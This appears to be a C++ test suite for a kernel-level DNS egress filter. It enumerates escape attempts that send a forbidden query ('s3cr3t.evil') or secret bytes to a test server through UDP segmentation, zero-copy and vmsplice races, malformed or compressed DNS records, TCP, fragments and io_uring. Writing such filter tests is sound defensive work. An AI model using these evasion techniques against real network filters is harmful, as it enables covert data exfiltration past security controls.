#include <fcntl.h>
#include <linux/udp.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sys/mman.h>

#include <atomic>
#include <cstring>
#include <thread>

#include "tests/kernel/escape_actions.h"
#include "tests/kernel/support/client.h"

#ifndef SO_ZEROCOPY
#define SO_ZEROCOPY 60
#endif
#ifndef MSG_ZEROCOPY
#define MSG_ZEROCOPY 0x4000000
#endif

namespace namewall::kernel_tests {
namespace {

const SocketAddress& far_server() {
  static const SocketAddress address(ip("10.77.0.1"), 53);
  return address;
}

OwnedFd connected_socket() {
  auto s = make_socket(AF_INET, SOCK_DGRAM);
  connect(s.get(), far_server().get(), far_server().length);
  return s;
}

void ask(const Bytes& message) { send(connected_socket().get(), message.data(), message.size(), 0); }

Bytes allowed_question() { return make_question(7, "example.com", 1); }
// Of the same length, so that one can be put in the place of the other.
Bytes forbidden_question() { return make_question(7, "s3cr3t.evil", 1); }

void send_segments(const OwnedFd& s, int flags) {
  Bytes both = allowed_question();
  const auto size = static_cast<int>(both.size());
  const Bytes second = forbidden_question();
  both.insert(both.end(), second.begin(), second.end());
  setsockopt(s.get(), IPPROTO_UDP, UDP_SEGMENT, &size, sizeof(size));
  send(s.get(), both.data(), both.size(), flags);
}

// Flips the bytes of a zero-copy send between the two questions while it is under way.
void race_zerocopy() {
  const auto s = connected_socket();
  const int one = 1;
  setsockopt(s.get(), SOL_SOCKET, SO_ZEROCOPY, &one, sizeof(one));
  const Bytes allowed = allowed_question(), forbidden = forbidden_question();
  auto* page = static_cast<char*>(mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0));
  std::atomic<bool> stop{false};
  std::thread flipper([&] {
    for (bool which = false; !stop; which = !which) {
      std::memcpy(page, which ? forbidden.data() : allowed.data(), allowed.size());
    }
  });
  for (int i = 0; i < 5'000; ++i) send(s.get(), page, allowed.size(), MSG_ZEROCOPY | MSG_DONTWAIT);
  stop = true;
  flipper.join();
}

void splice_question() {
  const auto s = connected_socket();
  auto* page = static_cast<char*>(mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0));
  const Bytes allowed = allowed_question(), forbidden = forbidden_question();
  for (int i = 0; i < 200; ++i) {
    int ends[2];  // a fresh pipe: what was refused stays in the old one
    if (pipe(ends) != 0) return;
    std::memcpy(page, allowed.data(), allowed.size());
    iovec part{page, allowed.size()};
    if (vmsplice(ends[1], &part, 1, SPLICE_F_GIFT) > 0) {
      std::thread flip([&] { std::memcpy(page, forbidden.data(), forbidden.size()); });
      splice(ends[0], nullptr, s.get(), nullptr, allowed.size(), 0);
      flip.join();
    }
    close(ends[0]), close(ends[1]);
  }
}

}  // namespace

std::vector<EscapeAction> question_escapes() {
  std::vector<EscapeAction> actions;
  actions.push_back({"question-forbidden", [] { ask(forbidden_question()); }});
  actions.push_back({"question-subdomain-of-exact", [] { ask(make_question(7, "s3cr3t.example.com", 1)); }});
  actions.push_back({"question-udp-segment", [] { send_segments(connected_socket(), 0); }});
  actions.push_back({"question-udp-segment-unconnected", [] {
                       const auto s = make_socket(AF_INET, SOCK_DGRAM);
                       Bytes both = allowed_question();
                       const auto size = static_cast<int>(both.size());
                       const Bytes second = forbidden_question();
                       both.insert(both.end(), second.begin(), second.end());
                       setsockopt(s.get(), IPPROTO_UDP, UDP_SEGMENT, &size, sizeof(size));
                       sendto(s.get(), both.data(), both.size(), 0, far_server().get(), far_server().length);
                     }});
  actions.push_back({"question-zerocopy", [] { race_zerocopy(); }});
  actions.push_back({"question-splice", [] { splice_question(); }});
  actions.push_back({"question-more", [] {
                       const auto s = connected_socket();
                       const Bytes question = allowed_question();
                       send(s.get(), question.data(), question.size(), MSG_MORE);
                       send(s.get(), kSecret, sizeof(kSecret), 0);
                     }});
  actions.push_back({"question-trailing-bytes", [] {
                       Bytes question = allowed_question();
                       question.insert(question.end(), kSecret, kSecret + sizeof(kSecret));
                       ask(question);
                     }});
  actions.push_back({"question-bytes-behind-opt", [] {
                       Bytes question = make_question(7, "example.com", 1, true);
                       question.insert(question.end(), kSecret, kSecret + sizeof(kSecret));
                       ask(question);
                     }});
  actions.push_back({"question-second-record-behind-opt", [] {
                       ask(DnsBytes(7, kFlagsQuestion, 1, 0, 0, 2)
                               .question("example.com", 1)
                               .opt()
                               .record("s3cr3t", 16, 0, {1, 'x'})
                               .bytes());
                     }});
  actions.push_back(
      {"question-two",
       [] { ask(DnsBytes(7, kFlagsQuestion, 2, 0).question("example.com", 1).question("s3cr3t.evil", 1).bytes()); }});
  actions.push_back({"question-with-answer-section", [] {
                       ask(DnsBytes(7, kFlagsQuestion, 1, 1)
                               .question("example.com", 1)
                               .record("s3cr3t.evil", 1, 0, {1, 2, 3, 4})
                               .bytes());
                     }});
  actions.push_back(
      {"question-as-response", [] { ask(DnsBytes(7, kFlagsAnswer, 1, 0).question("s3cr3t.evil", 1).bytes()); }});
  actions.push_back(
      {"question-update-opcode", [] { ask(DnsBytes(7, 0x2800, 1, 0).question("s3cr3t.evil", 1).bytes()); }});
  actions.push_back({"question-compressed", [] {
                       ask(DnsBytes(7, kFlagsQuestion, 1, 0).labels("s3cr3t").pointer(12).u16(1).u16(1).bytes());
                     }});
  actions.push_back(
      {"question-dot-inside-label", [] {
         ask(DnsBytes(7, kFlagsQuestion, 1, 0)
                 .u8(18)
                 .raw({'s', '3', 'c', 'r', '3', 't', '.', 'e', 'x', 'a', 'm', 'p', 'l', 'e', '.', 'c', 'o', 'm'})
                 .u8(0)
                 .u16(1)
                 .u16(1)
                 .bytes());
       }});
  actions.push_back({"question-not-dns", [] { ask(Bytes(kSecret, kSecret + sizeof(kSecret))); }});
  actions.push_back({"question-long-option", [] {
                       // An OPT whose RDLENGTH does not fit its options.
                       ask(DnsBytes(7, kFlagsQuestion, 1, 0, 0, 1)
                               .question("example.com", 1)
                               .u8(0)
                               .u16(41)
                               .u16(4096)
                               .u32(0)
                               .u16(10)
                               .u16(10)
                               .u16(4)
                               .raw(Bytes(kSecret, kSecret + 6))
                               .bytes());
                     }});
  actions.push_back({"question-tcp", [] {
                       const auto s = make_socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK);
                       connect(s.get(), far_server().get(), far_server().length);
                       wait_for_tcp(s.get(), milliseconds(100));
                       send(s.get(), kSecret, sizeof(kSecret), MSG_NOSIGNAL);
                     }});
  actions.push_back({"question-fragments", [] {
                       // Larger than the MTU: the second fragment carries no header.
                       Bytes question = allowed_question();
                       question.resize(3000, 'x');
                       std::memcpy(question.data() + 2900, kSecret, sizeof(kSecret));
                       ask(question);
                     }});
  actions.push_back({"question-io-uring", [] {
                       const auto s = make_socket(AF_INET, SOCK_DGRAM);
                       Bytes question = forbidden_question();
                       SocketAddress to = far_server();
                       iovec part{question.data(), question.size()};
                       msghdr message{};
                       message.msg_name = to.get();
                       message.msg_namelen = to.length;
                       message.msg_iov = &part;
                       message.msg_iovlen = 1;
                       io_uring_sendmsg(s.get(), &message);
                     }});
  return actions;
}

}  // namespace namewall::kernel_tests
